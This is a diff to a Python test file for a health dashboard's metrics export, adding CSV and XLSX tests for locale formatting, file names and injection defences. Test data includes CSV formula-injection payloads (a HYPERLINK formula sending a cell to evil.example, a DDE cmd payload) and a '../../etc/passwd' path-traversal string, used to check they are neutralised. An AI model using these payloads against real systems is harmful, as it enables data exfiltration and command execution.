@@ -42,6 +42,7 @@ declaration was made after Jan 19 and expires after Feb 18.
 
 from __future__ import annotations
 
+import base64
 import csv
 import datetime as dt
 import io
@@ -49,6 +50,7 @@ import json
 import re
 from dataclasses import dataclass, field
 
+import openpyxl
 import pytest
 from sqlalchemy import event
 
@@ -955,13 +957,37 @@ def refresh(client, start=None, end=None, specialty=""):
     return dc.call(client, REFRESH, _filters(start, end, specialty))
 
 
-def export(client, start=None, end=None, specialty=""):
+def export(client, start=None, end=None, specialty="", kind="csv"):
+    suffix = "" if kind == "csv" else "-xlsx"
     return dc.call(
         client,
-        [("metrics-download", "data")],
-        [("metrics-export", "n_clicks", 1)],
+        [(f"metrics-download{suffix}", "data")],
+        [(f"metrics-export{suffix}", "n_clicks", 1)],
         state=_filters(start, end, specialty),
     )
+
+
+def downloaded(response, kind="csv") -> tuple[str, bytes]:
+    """The file name and bytes of an export callback's dcc.Download data."""
+    suffix = "" if kind == "csv" else "-xlsx"
+    data = dc.values(response)[(f"metrics-download{suffix}", "data")]
+    content = base64.b64decode(data["content"]) if data.get("base64") else data["content"]
+    return data["filename"], content if isinstance(content, bytes) else content.encode()
+
+
+def csv_rows(content: bytes, delimiter: str = ";") -> list[dict]:
+    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with its byte-order mark
+    text = content.decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+def xlsx_rows(content: bytes) -> list[dict]:
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header, *rows = sheet.iter_rows()
+    names = [c.value for c in header]
+    for row in rows:
+        assert all(c.data_type != "f" for c in row), [c.value for c in row]  # no formula
+    return [{n: c.value for n, c in zip(names, row, strict=True)} for row in rows]
 
 
 def client_as(w: World, app, role: str):
@@ -1005,9 +1031,12 @@ def _assert_no_personal_data(*responses) -> None:
         if response.is_json:
             texts.append(json.dumps(response.get_json(), ensure_ascii=False))
             data = response.get_json().get("response", {})
-            download = data.get("metrics-download", {}).get("data")
-            if download:
-                texts.append(download["content"])
+            for kind in ("csv", "xlsx"):
+                suffix = "" if kind == "csv" else "-xlsx"
+                if data.get(f"metrics-download{suffix}", {}).get("data"):
+                    _name, content = downloaded(response, kind)
+                    cells = csv_rows(content) if kind == "csv" else xlsx_rows(content)
+                    texts.append(json.dumps(cells, ensure_ascii=False))
         for text in texts:
             for value in personal_strings():
                 assert value not in text, f"{value!r} leaked"
@@ -1131,17 +1160,25 @@ def test_manager_filters_through_the_callback_like_compute(world, app):
     _assert_no_personal_data(response)
 
 
-@pytest.mark.usefixtures("computes")
+def _as_text(rows: list[dict]) -> list[dict]:
+    """as_rows as the CSV writes it: numbers in the shortest exact form, None empty."""
+
+    def text(v) -> str:
+        return "" if v is None else format(v, ".15g") if isinstance(v, float) else str(v)
+
+    return [{k: text(v) for k, v in r.items()} for r in rows]
+
+
 def test_manager_exports_every_aggregate_as_csv(world, app):
     client = client_as(world, app, "manager")
     response = export(client)
     assert response.status_code == 200, response.data[:300]
-    data = dc.values(response)[("metrics-download", "data")]
-    assert data["filename"] == "indicateurs-esante-debut-fin.csv"
-    rows = list(csv.DictReader(io.StringIO(data["content"])))
+    name, content = downloaded(response)
+    assert name == "indicateurs-esante-debut-fin.csv"
+    rows = csv_rows(content)  # French: ";" and the decimal comma
     expected = [
-        {k: "" if v is None else str(v) for k, v in r.items()}
-        for r in metrics.as_rows(compute(world.backend))
+        {**r, "value": r["value"].replace(".", ",")}
+        for r in _as_text(metrics.as_rows(compute(world.backend)))
     ]
     assert rows == expected
     assert {r["table"] for r in rows} == {
@@ -1154,14 +1191,114 @@ def test_manager_exports_every_aggregate_as_csv(world, app):
         "reviewers",
     }
     assert {"table": "kpi", "dimension": "overdue", "category": "", "value": "2"} in rows
+    assert {
+        "table": "kpi",
+        "dimension": "manual_review_rate",
+        "category": "",
+        "value": "0,6667",
+    } in rows
     _assert_no_personal_data(response)
 
     filtered = export(client, "2026-01-12", "2026-01-18", PED)
-    data = dc.values(filtered)[("metrics-download", "data")]
-    assert data["filename"] == "indicateurs-esante-2026-01-12-2026-01-18.csv"
-    rows = list(csv.DictReader(io.StringIO(data["content"])))
+    name, content = downloaded(filtered)
+    assert name == "indicateurs-esante-2026-01-12-2026-01-18.csv"
+    rows = csv_rows(content)
     assert {"table": "kpi", "dimension": "declarations", "category": "", "value": "2"} in rows
     _assert_no_personal_data(filtered)
+
+
+@pytest.mark.parametrize(
+    ("lang", "delimiter", "rate"),
+    [("fr", ";", "0,6667"), ("de", ";", "0,6667"), ("en", ",", "0.6667")],
+)
+def test_the_csv_opens_in_a_spreadsheet_in_the_readers_language(world, app, lang, delimiter, rate):
+    client = client_as(world, app, "manager")
+    client.set_cookie("esante_lang", lang)
+    _name, content = downloaded(export(client))
+    rows = csv_rows(content, delimiter)
+    assert {
+        "table": "kpi",
+        "dimension": "manual_review_rate",
+        "category": "",
+        "value": rate,
+    } in rows
+    assert all(len(r) == 4 and None not in r for r in rows)  # no cell split by a separator
+
+
+def test_manager_exports_every_aggregate_as_xlsx(world, app):
+    client = client_as(world, app, "manager")
+    response = export(client, kind="xlsx")
+    assert response.status_code == 200, response.data[:300]
+    name, content = downloaded(response, "xlsx")
+    assert name == "indicateurs-esante-debut-fin.xlsx"
+    data = dc.values(response)[("metrics-download-xlsx", "data")]
+    assert data["type"] == ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    rows = xlsx_rows(content)
+    expected = [
+        {k: (None if v == "" else v) for k, v in r.items()}
+        for r in metrics.as_rows(compute(world.backend))
+    ]
+    assert rows == expected  # numbers as numbers: 18, 0.6667, 3.0
+    _assert_no_personal_data(response)
+    filtered = export(client, "2026-01-12", "2026-01-18T00:00:00", PED, kind="xlsx")
+    assert downloaded(filtered, "xlsx")[0] == "indicateurs-esante-2026-01-12-2026-01-18.xlsx"
+
+
+def test_the_file_name_carries_the_period_the_server_read(world, app):
+    client = client_as(world, app, "manager")
+    # A date with its time, as the date picker may send it; and no date at all.
+    name, _content = downloaded(export(client, "2026-01-12T00:00:00", None))
+    assert name == "indicateurs-esante-2026-01-12-fin.csv"
+    # Not a date: no bound, and nothing of it in the name.
+    name, content = downloaded(export(client, "../../etc/passwd", "2026-01-18"))
+    assert name == "indicateurs-esante-debut-2026-01-18.csv"
+    assert {"table": "kpi", "dimension": "declarations", "category": "", "value": "10"} in (
+        csv_rows(content)
+    )
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+33 6 12",
+    "-2+3",
+)
+
+
+def test_a_hostile_display_name_arrives_inert_in_both_exports(world, app):
+    from dashboard.enrolment import staff
+
+    be = world.backend
+    # Four reviewers whose display names a spreadsheet would run: each decides a case.
+    world.clock.now = NOW + dt.timedelta(hours=1)
+    for i, (display_name, label) in enumerate(
+        zip(HOSTILE_NAMES, ("E11", "E12", "E16", "E15"), strict=True)
+    ):
+        with be.uow() as uow:
+            reviewer = staff.add_user(
+                uow, f"hostile{i}@esante.lu", "correct horse battery staple", ["reviewer"],
+                display_name=display_name,
+            ).id  # fmt: skip
+        with be.uow() as uow:
+            services.reject(uow, world.ids[label], reviewer, reason_code="declaration_error")
+    client = client_as(world, app, "manager")
+    _name, content = downloaded(export(client))
+    text_rows = csv_rows(content)
+    _name, content = downloaded(export(client, kind="xlsx"), "xlsx")
+    cell_rows = xlsx_rows(content)
+    for rows in (text_rows, cell_rows):
+        names = {r["dimension"] for r in rows if r["table"] == "reviewers"}
+        assert {"'" + n for n in HOSTILE_NAMES} <= names
+        assert not set(HOSTILE_NAMES) & names
+        decisions = {
+            r["dimension"]: r["value"]
+            for r in rows
+            if r["table"] == "reviewers" and r["category"] == "decisions"
+        }
+        assert {decisions["'" + n] for n in HOSTILE_NAMES} <= {1, "1"}  # numbers untouched
+    # The chart shows the names as they are (Plotly draws text, it runs nothing).
+    figure = dc.values(refresh(client))[("metrics-reviewers", "figure")]
+    assert set(HOSTILE_NAMES) <= set(figure["data"][0]["x"])
 
 
 @pytest.mark.parametrize("name", ["funnel", "trend", "ageing", "mismatches", "reviewers"])
@@ -1197,6 +1334,8 @@ def test_manager_sees_the_page(world, app):
         "metrics-reviewers",
         "metrics-export",
         "metrics-download",
+        "metrics-export-xlsx",
+        "metrics-download-xlsx",
     ):
         assert f'"{component_id}"' in body, component_id
     _assert_no_personal_data(response)
@@ -1205,7 +1344,12 @@ def test_manager_sees_the_page(world, app):
 @pytest.mark.parametrize("role", ["anonymous", "secretary", "professional", "R1", "admin"])
 def test_everyone_else_is_refused(world, app, role):
     client = client_as(world, app, role)
-    responses = [refresh(client), export(client), refresh(client, "2026-01-01", "2026-02-04")]
+    responses = [
+        refresh(client),
+        export(client),
+        export(client, kind="xlsx"),
+        refresh(client, "2026-01-01", "2026-02-04"),
+    ]
     for response in responses:
         assert response.status_code == 403, (role, response.status_code)
     page = dc.render_page(client, "/backoffice/indicateurs")
